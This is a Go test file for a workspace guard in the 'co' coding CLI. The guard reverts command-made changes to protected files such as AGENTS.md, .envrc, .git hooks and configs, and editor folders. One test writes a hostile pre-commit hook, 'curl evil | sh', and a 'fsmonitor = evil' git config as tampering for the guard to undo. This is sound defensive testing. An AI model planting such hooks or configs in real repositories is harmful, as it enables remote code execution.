package sandbox

// The guard on its own, on the host: a "command" is whatever the test does between begin and
// end. protect_test.go drives it through the Docker backend.

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/co-cli/co/lib/protect"
)

func newTestGuard(t *testing.T, files map[string]string) (*guard, string) {
	t.Helper()
	ws := t.TempDir()
	for rel, content := range files {
		write(t, ws, rel, content)
	}
	return newGuard(ws, protect.New([]string{"AI.md"}), false), ws
}

// command runs f as a command would run, between begin and end.
func command(t *testing.T, g *guard, f func()) []Protected {
	t.Helper()
	if err := g.begin(); err != nil {
		t.Fatal(err)
	}
	f()
	return g.end(nil)
}

func TestGuardLargeFileHasNoCopy(t *testing.T) {
	g, ws := newTestGuard(t, map[string]string{"sub/.git/objects/pack/p.pack": strings.Repeat("x", keepFileMax+1), "sub/.git/config": "[core]\n"})
	ps := command(t, g, func() { write(t, ws, "sub/.git/objects/pack/p.pack", "tampered") })
	mustNotExist(t, ws, "sub/.git/objects/pack/p.pack")
	mustHave(t, ws, "sub/.git/config", "[core]\n")
	if len(ps) != 1 || ps[0].Failed != "" || !strings.Contains(ps[0].Change, "kept no copy") {
		t.Errorf("%+v", ps)
	}
	write(t, ws, "sub/.git/objects/pack/q.pack", strings.Repeat("y", keepFileMax+1))
	ps = command(t, g, func() { os.Remove(filepath.Join(ws, "sub/.git/objects/pack/q.pack")) })
	if len(ps) != 1 || ps[0].Change != "deleted" || !strings.Contains(ps[0].Failed, "kept no copy") {
		t.Errorf("%+v", ps)
	}
	if note := ProtectedNote(ps); !strings.Contains(note, "co could not revert") || !strings.Contains(note, "q.pack (deleted)") {
		t.Errorf("note: %s", note)
	}
}

// A file changed right after the baseline, in the same tick of the file system's clock, can keep
// its stat (ctime included). The guard does not trust a stat taken less than racyWindow after
// the file's ctime: it compares the content. Userland cannot set a ctime, so the test makes the
// baseline hold other content under the file's very stat, as such a change would leave it.
func TestGuardRacyStatIsNotTrusted(t *testing.T) {
	g, ws := newTestGuard(t, map[string]string{".envrc": "export A=1\n"})
	if err := g.begin(); err != nil {
		t.Fatal(err)
	}
	b := g.base[".envrc"]
	if !b.racy { // just written
		t.Fatal("a stat taken right after a change is trusted")
	}
	b.content = []byte("export A=0\n")
	ps := g.end(nil)
	mustHave(t, ws, ".envrc", "export A=0\n")
	if len(ps) != 1 || ps[0].Change != "changed" {
		t.Errorf("%+v", ps)
	}
	// Once the stat is old enough, an unchanged stat means unchanged content.
	if err := g.begin(); err != nil {
		t.Fatal(err)
	}
	g.base[".envrc"].racy = false
	g.base[".envrc"].content = []byte("other")
	if ps := g.end(nil); len(ps) != 0 {
		t.Errorf("%+v", ps)
	}
}

// A command cannot send a restore or a removal out of the workspace with a symlink in its way.
func TestGuardDoesNotFollowPlantedLinks(t *testing.T) {
	g, ws := newTestGuard(t, map[string]string{"sub/AGENTS.md": "rules\n", "sub/x.go": "x"})
	outside := t.TempDir()
	write(t, outside, "AGENTS.md", "outside\n")
	write(t, outside, ".git/config", "outside\n")
	ps := command(t, g, func() {
		os.RemoveAll(filepath.Join(ws, "sub"))
		if err := os.Symlink(outside, filepath.Join(ws, "sub")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(ws, "other")); err != nil {
			t.Fatal(err)
		}
	})
	mustHave(t, outside, "AGENTS.md", "outside\n")
	mustHave(t, outside, ".git/config", "outside\n")
	mustHave(t, ws, "sub/AGENTS.md", "rules\n")
	if fi, err := os.Lstat(filepath.Join(ws, "sub")); err != nil || !fi.IsDir() {
		t.Errorf("sub: %v %v", fi, err)
	}
	if len(ps) != 1 || ps[0].Path != "sub/AGENTS.md" || ps[0].Change != "deleted" || ps[0].Failed != "" {
		t.Errorf("%+v", ps)
	}
	// A folder in the way that is not a link is not removed: the file stays deleted, said so.
	ps = command(t, g, func() {
		os.RemoveAll(filepath.Join(ws, "sub"))
		write(t, ws, "sub", "a file now")
	})
	mustHave(t, ws, "sub", "a file now")
	if len(ps) != 1 || !strings.Contains(ps[0].Failed, "sub is no longer a folder") {
		t.Errorf("%+v", ps)
	}
}

// Concurrent commands share the baseline; the last one's end undoes what any of them did.
func TestGuardConcurrentCommands(t *testing.T) {
	g, ws := newTestGuard(t, map[string]string{"AGENTS.md": "rules\n"})
	if err := g.begin(); err != nil {
		t.Fatal(err)
	}
	if err := g.begin(); err != nil {
		t.Fatal(err)
	}
	write(t, ws, "AGENTS.md", "first\n")
	if ps := g.end(nil); len(ps) != 1 {
		t.Errorf("first end: %+v", ps)
	}
	mustHave(t, ws, "AGENTS.md", "rules\n")
	write(t, ws, ".envrc", "second\n")
	if ps := g.end(nil); len(ps) != 1 || ps[0].Path != ".envrc" {
		t.Errorf("second end: %+v", ps)
	}
	mustNotExist(t, ws, ".envrc")
	if g.active != 0 || g.dirty {
		t.Errorf("active %d, dirty %v", g.active, g.dirty)
	}
	// final checks only when a command ran since.
	write(t, ws, ".envrc", "the user's\n")
	if ps := g.final(); ps != nil {
		t.Errorf("final after a clean end: %+v", ps)
	}
	mustHave(t, ws, ".envrc", "the user's\n")
}

// A protected folder created or deleted whole is one item of the report.
func TestGuardReportsFoldersWhole(t *testing.T) {
	g, ws := newTestGuard(t, map[string]string{"a/.vscode/settings.json": "{}", "a/.vscode/tasks.json": "{}", "a/.vscode/x/y": "z"})
	ps := command(t, g, func() {
		os.RemoveAll(filepath.Join(ws, "a/.vscode"))
		write(t, ws, "b/.idea/one.xml", "1")
		write(t, ws, "b/.idea/two.xml", "2")
	})
	if len(ps) != 2 || ps[0].Path != "a/.vscode/" || ps[0].Change != "deleted" || ps[0].Files != 4 ||
		ps[1].Path != "b/.idea/" || ps[1].Change != "created" || ps[1].Files != 2 {
		t.Fatalf("%+v", ps)
	}
	mustHave(t, ws, "a/.vscode/x/y", "z")
	mustNotExist(t, ws, "b/.idea")
	note := ProtectedNote(ps)
	for _, s := range []string{"[co refused and reverted this command's changes to protected files:\n",
		"- a/.vscode/ (deleted, with 4 entries in it): .vscode/ holds editor tasks",
		"- b/.idea/ (created, with 2 entries in it): .idea/ holds JetBrains",
		"use write_file or edit_file, which ask the user.]"} {
		if !strings.Contains(note, s) {
			t.Errorf("note lacks %q:\n%s", s, note)
		}
	}
}

// A workspace whose own .git may be written (sandbox_git_readonly off) is left alone there, and
// only there.
func TestGuardSkipsTheWorkspaceGitWhenAllowed(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, ".git/config", "[core]\n")
	write(t, ws, "sub/.git/config", "[core]\n")
	g := newGuard(ws, protect.New(nil), true)
	ps := command(t, g, func() {
		write(t, ws, ".git/config", "[core]\n\tfsmonitor = x\n")
		write(t, ws, "sub/.git/config", "[core]\n\tfsmonitor = x\n")
	})
	mustHave(t, ws, ".git/config", "[core]\n\tfsmonitor = x\n")
	mustHave(t, ws, "sub/.git/config", "[core]\n")
	if len(ps) != 1 || ps[0].Path != "sub/.git/config" {
		t.Errorf("%+v", ps)
	}
}

func TestGuardPrimeGivesUp(t *testing.T) {
	g, _ := newTestGuard(t, map[string]string{"a/b/c": "x", "d/e": "y"})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	g.prime(ctx)
	if g.primed || len(g.tree) != 0 {
		t.Errorf("primed %v, %d directories", g.primed, len(g.tree))
	}
	g.prime(context.Background())
	if !g.primed || len(g.tree) != 4 {
		t.Errorf("primed %v, %d directories", g.primed, len(g.tree))
	}
}

// When the copies would pass keepTotalMax, the largest files go without one, not hooks or config.
func TestGuardKeepsSmallFilesFirst(t *testing.T) {
	// The large files fill the budget to the byte and come first by path.
	files := map[string]string{"z/.git/hooks/pre-commit": "#!/bin/sh\n", "z/.git/config": "[core]\n"}
	for i := range keepTotalMax / keepFileMax {
		files[fmt.Sprintf("a/.git/objects/big%d", i)] = strings.Repeat("x", keepFileMax)
	}
	g, ws := newTestGuard(t, files)
	ps := command(t, g, func() {
		write(t, ws, "z/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
		write(t, ws, "z/.git/config", "[core]\n\tfsmonitor = evil\n")
	})
	mustHave(t, ws, "z/.git/hooks/pre-commit", "#!/bin/sh\n")
	mustHave(t, ws, "z/.git/config", "[core]\n")
	if len(ps) != 2 || ps[0].Failed != "" || ps[1].Failed != "" {
		t.Errorf("%+v", ps)
	}
	var without []string
	for rel, e := range g.base {
		if e.st.typ() == unix.S_IFREG && !e.kept {
			without = append(without, rel)
		}
	}
	if len(without) == 0 {
		t.Fatal("everything kept: the test no longer passes the budget")
	}
	for _, rel := range without {
		if !strings.Contains(rel, "/objects/big") {
			t.Errorf("%s has no copy", rel)
		}
	}
}
